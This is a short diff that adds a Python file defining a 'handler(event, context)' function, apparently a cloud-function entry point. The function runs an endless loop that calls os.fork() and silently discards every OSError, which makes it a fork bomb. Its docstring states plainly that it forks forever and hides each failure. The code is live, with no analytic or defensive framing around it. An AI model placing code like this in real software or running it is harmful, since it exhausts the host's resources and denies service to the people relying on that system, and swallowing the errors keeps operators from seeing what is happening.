@@ -1,0 +1,11 @@
+"""Forks for ever and hides each failure."""
+
+import os
+
+
+def handler(event, context):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
